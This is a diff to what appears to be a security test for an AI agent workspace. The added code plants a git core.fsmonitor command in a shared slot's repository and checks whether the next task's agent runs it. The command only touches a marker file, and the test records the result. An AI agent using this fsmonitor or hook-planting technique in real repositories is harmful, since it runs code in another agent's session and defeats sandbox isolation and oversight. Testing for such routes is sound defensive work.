@@ -215,6 +215,18 @@ async def attack(config: dict[str, Any], env: dict[str, str]) -> dict[str, Any]:
                 "README.md",
                 env=plain_env,
             )
+            # What `git add` does to each file, on its own: status and checkout run the
+            # clean filter only on a file whose stat git cannot trust (same-second writes).
+            + plain_git(
+                "-c",
+                "safe.directory=*",
+                "-C",
+                slot,
+                "hash-object",
+                "--path=feature.txt",
+                "feature.txt",
+                env=plain_env,
+            )
             + plain_git(
                 "-c",
                 "safe.directory=*",
@@ -242,8 +254,31 @@ async def attack(config: dict[str, Any], env: dict[str, str]) -> dict[str, Any]:
         merged = await office.workspace.merge_task(job.space, 1, "task 1")
         await office.workspace.publish(job.space, str(origin))
         await office.workspace.mirror("github/o/widgets", str(origin))
+        # A repository of the worker's own where the slot's .git was, whose fsmonitor the
+        # next task's git would run (it writes in the slot: the sandbox allows that much).
+        ran = space.path / "fsmonitor-in-slot"
+        out["slot_git"] = await sh(
+            f"rm -rf .git && git init -q . && git config core.fsmonitor 'touch {ran}; false'"
+            " && echo planted"
+        )
         await office.workspace.release(job.space, 1)
+        # As the next agent's git would (its hooks aside: the job's planted ones are above).
+        no_hooks = ("-c", "core.hooksPath=/dev/null", "-c", "safe.directory=*")
+        plain_git(*no_hooks, "-C", slot, "status", env=plain_env)
+        report["slot_git_ran_before_lease"] = ran.exists()
+        ran.unlink(missing_ok=True)
         again = await office.workspace.lease(job.space, 2)
+        next_tools = files.tools_for(job.space, again.path, writable=True, project=project.name)
+        status = await next_tools.run(
+            "worker",
+            "task:2",  # its hooks aside again: with no sandbox they are the job's planted ones
+            ToolCall("c", "shell", {"command": "git -c core.hooksPath=/dev/null status"}),
+        )
+        report["slot_git_next"] = {
+            "ran": ran.exists(),
+            "gitfile": (again.path / ".git").is_file(),
+            "status": status.output,
+        }
         await office.workspace.commit_task(again, "Task 2", author=("w", "w@x"))
         report["engine"] = {
             "committed": committed.commit,
